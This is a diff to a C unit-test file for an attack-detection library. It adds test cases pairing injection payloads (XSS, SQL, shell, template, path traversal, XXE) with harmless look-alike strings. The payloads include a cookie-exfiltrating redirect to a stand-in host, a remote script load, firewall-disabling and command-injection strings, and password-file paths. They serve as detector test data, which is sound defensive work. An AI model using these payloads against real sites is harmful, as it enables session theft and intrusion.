@@ -67,6 +67,7 @@ static const struct {
 	  "';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></"
 	  "script>\">'><script>alert(1)</script>",
 	  "(as we said) a char code" },
+	{ "FW-XSS-014", "onLoadStart", "onload comes first" },
 	{ "FW-SQL-001", "1 union select password from users", "the union selects its members" },
 	{ "FW-SQL-002", "' or 1=1", "this or that is 1 of 2" },
 	{ "FW-SQL-003", "1; drop table users", "wait; drop me a line" },
@@ -92,7 +93,7 @@ static const struct {
 	{ "FW-SHELL-007", "a long line of words $(id) here", "a long line of words $(x) here" },
 	{ "FW-SHELL-008", "system('id')", "system('idle')" },
 	{ "FW-SHELL-010", "& netsh firewall set opmode disable", "& the firewall is set" },
-	{ "FW-SHELL-011", "`/usr/bin/id`", "`make`" },
+	{ "FW-SHELL-011", "phpinfo()", "`make`" },
 	{ "FW-PATH-001", "../../../../../x", "../x" },
 	{ "FW-PATH-002", "..%2f..%2fx", "50%2f" },
 	{ "FW-PATH-003", "see ../etc/passwd", "see ../etc/x" },
@@ -111,13 +112,13 @@ static const struct {
 	{ "FW-OTHER-006", "*)(uid=*", "(uid)" },
 	{ "FW-OTHER-007", "__proto__[x]=1", "proto[x]=1" },
 	{ "FW-OTHER-008", "<!--#include file=\"x\"-->", "<!-- include -->" },
-	{ "FW-OTHER-009", "{{name}}", "{name}" },
+	{ "FW-OTHER-009", "so {{name}} it is", "so {name} it is" },
 	{ "FW-OTHER-010", "x%0d%0aSet-Cookie: a=b", "Set-Cookie: a=b" },
 	{ "FW-OTHER-011", "x/child::node()", "x/child" },
 	{ "FW-OTHER-012", "gopher://x", "go://x" },
 	{ "FW-OTHER-013", "process.env.X=1", "processing.environment=1" },
 	{ "FW-OTHER-016", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ name }}" },
-	{ "FW-OTHER-017", "true, $where: '1 == 1'", "where '1' is 1" },
+	{ "FW-OTHER-017", "<xml>&systemEntity;</xml>", "where '1' is 1" },
 	{ "FW-OTHER-018", "${#_memberAccess['allowStaticMethodAccess']=true}", "${name}" },
 	{ "FW-OTHER-015",
 	  "the old server still answers at gopher://x, which nobody has asked for in the last ten years, has anybody?",
@@ -230,6 +231,96 @@ static void test_harmless(void **state)
 	assert_int_equal(wrong, 0);
 }
 
+/* Script without markup: what a page would run that puts the text into a string, an attribute or a script of its own.
+ * In the second column what is like it and harmless. */
+static void test_script(void **state)
+{
+	static const struct {
+		const char *attack, *harmless;
+	} texts[] = {
+		{ "';f=prompt,f()//", "level=alert, then f(x) says so" },
+		{ "x\"-go(1)-\"", "x\" - go there - \"" },
+		{ "1];go(a);//", "1]; see http://example.com/a//" },
+		{ "(alert)(1)", "(alert) they said (1)" },
+		{ "a=alert;b(1);a(2)", "a=alerts;b(1);a(2)" },
+		{ "onerror=alert;throw 1", "level=alert; it never throws" },
+		{ "top['al'+'ert'](1)", "top['alerts'] of the list" },
+		{ "window[8680439..toString(30)](1)", "a[n.toString(30)](1)" },
+		{ "u='java'+'scr'+\"ipt:\"+x", "u='Java' + 'Beans'" },
+		{ "eval(location.hash.slice(1))", "evaluate(locations.map(x))" },
+		{ "document.location='//x.example/?'+document.cookie", "the location=here, and a cookie" },
+		{ "a\" type=image src=x onerror=f b=\"", "a\" type=image src=x one=f b=\"" },
+		{ "<script+src=//x.example/></script>", "use script+src there" },
+		{ "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+adw- is a bracket" },
+		{ "x\" style=\"a:expression(alert(1))", "x\" style=\"a:expression" },
+	};
+	unsigned wrong = 0;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+		struct detect_result result = look(texts[i].attack, strlen(texts[i].attack));
+
+		if (detect_points(&result, DETECT_XSS, NULL) < DETECT_REFUSE) {
+			print_error("# %u points for %s\n", detect_points(&result, DETECT_XSS, NULL), texts[i].attack);
+			wrong++;
+		}
+		result = look(texts[i].harmless, strlen(texts[i].harmless));
+		if (detect_points(&result, DETECT_XSS, NULL) >= DETECT_FLAG) {
+			print_error("# %u points for %s\n", detect_points(&result, DETECT_XSS, NULL),
+				    texts[i].harmless);
+			wrong++;
+		}
+	}
+	assert_int_equal(wrong, 0);
+}
+
+/* Pieces of other languages: what is refused, what is flagged at least, and what is like it. */
+static void test_pieces(void **state)
+{
+	static const struct {
+		const char *text;
+		unsigned least, most;
+	} texts[] = {
+		{ "{{''.class.mro()[1].subclasses()}}", DETECT_REFUSE, UINT8_MAX },
+		{ "<%= 3 * 3 %>", DETECT_REFUSE, UINT8_MAX },
+		{ "1, $where: '1 == 1'", DETECT_REFUSE, UINT8_MAX },
+		{ "$where: '1 == 1'", DETECT_REFUSE, UINT8_MAX },
+		{ "we pay in $or: what else?", 0, DETECT_FLAG - 1 },
+		{ "[#assign x = 'y'?new()]", DETECT_REFUSE, UINT8_MAX },
+		{ "[#12-3] is fixed", 0, DETECT_FLAG - 1 },
+		{ "exec(@s)", DETECT_REFUSE, UINT8_MAX },
+		{ "or x=y#", DETECT_REFUSE, UINT8_MAX },
+		{ "or 'a' like 'b", DETECT_FLAG, UINT8_MAX },
+		{ "or this is it, and so on", 0, DETECT_FLAG - 1 },
+		{ "1 or 1=db_name()", DETECT_REFUSE, UINT8_MAX },
+		{ "' or ''-'", DETECT_REFUSE, UINT8_MAX },
+		{ "1;load data infile 'x'", DETECT_REFUSE, UINT8_MAX },
+		{ "wait; load it then", 0, DETECT_FLAG - 1 },
+		{ "8'+AND+'1'+LIKE+'1", DETECT_REFUSE, UINT8_MAX },
+		{ "redis-benchmark (#8005) is slow", 0, DETECT_FLAG - 1 },
+		{ "hello everybody, a;id;b and so on", DETECT_REFUSE, UINT8_MAX },
+		{ "use cat|head|tail or so", 0, DETECT_FLAG - 1 },
+		{ "hello && ifconfig they say", DETECT_FLAG, UINT8_MAX },
+		{ "onload", DETECT_FLAG, DETECT_REFUSE - 1 },
+		{ "onwards", 0, 0 },
+		{ "on", 0, 0 },
+		{ "onload is what I would take", 0, DETECT_FLAG - 1 },
+	};
+	unsigned wrong = 0;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+		struct detect_result result = look(texts[i].text, strlen(texts[i].text));
+		unsigned points = most_points(&result);
+
+		if (points < texts[i].least || points > texts[i].most) {
+			print_error("# %u points for %s\n", points, texts[i].text);
+			wrong++;
+		}
+	}
+	assert_int_equal(wrong, 0);
+}
+
 /* The same attack as encoders write it, in capitals, and behind and in front of words. */
 static void test_evasions(void **state)
 {
@@ -310,7 +401,7 @@ static void test_code(void **state)
 
 static void test_lead(void **state)
 {
-	const char text[] = "<script>alert(1)</script><svg>", path[] = "open /etc/passwd please";
+	const char text[] = "<script>alert(1)</script><svg>", path[] = "file is /etc/master.passwd";
 	struct detect_result result = look(text, sizeof(text) - 1);
 	struct detect_rules without = { 0 };
 
@@ -320,7 +411,9 @@ static void test_lead(void **state)
 	detect_rules_add(&without, RULE_XSS_SCRIPT);
 	assert_int_not_equal(detect_lead(&result, DETECT_XSS, &without), RULE_XSS_SCRIPT);
 	assert_int_equal(detect_points(&result, DETECT_XSS, NULL) - detect_points(&result, DETECT_XSS, &without),
-			 detect_rules_has(&result.found, RULE_XSS_VOICE) ? 20 : 10);
+			 detect_rules_has(&result.found, RULE_XSS_VOICE)  ? 20
+			 : detect_rules_has(&result.found, RULE_XSS_ECHO) ? 15
+									  : 10);
 	/* a rule of four points, and five of the voice */
 	result = look(path, sizeof(path) - 1);
 	assert_true(detect_rules_has(&result.found, RULE_PATH_ECHO));
@@ -364,7 +457,8 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_rules),	 cmocka_unit_test(test_ids),	  cmocka_unit_test(test_words),
 		cmocka_unit_test(test_harmless), cmocka_unit_test(test_evasions), cmocka_unit_test(test_code),
-		cmocka_unit_test(test_lead),	 cmocka_unit_test(test_long),	  cmocka_unit_test(test_flood),
+		cmocka_unit_test(test_script),	 cmocka_unit_test(test_pieces),	  cmocka_unit_test(test_lead),
+		cmocka_unit_test(test_long),	 cmocka_unit_test(test_flood),
 	};
 
 	return cmocka_run_group_tests(tests, setup, NULL);
